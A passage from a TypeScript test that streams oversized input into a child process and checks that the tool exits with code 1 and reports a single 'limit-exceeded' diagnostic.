        while (!p.stdin.destroyed && p.stdin.write(chunk));
        if (!p.stdin.destroyed) p.stdin.once("drain", pump);
      };
      p.stdin.on("error", () => undefined);
      pump();
      p.on("close", (code) => {
        p.stdin.destroy();
        done({ code, stdout });
      });
    });
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).results[0].diagnostics.map((d: { rule: string }) => d.rule)).toEqual(["limit-exceeded"]);
  }, 30_000);
});
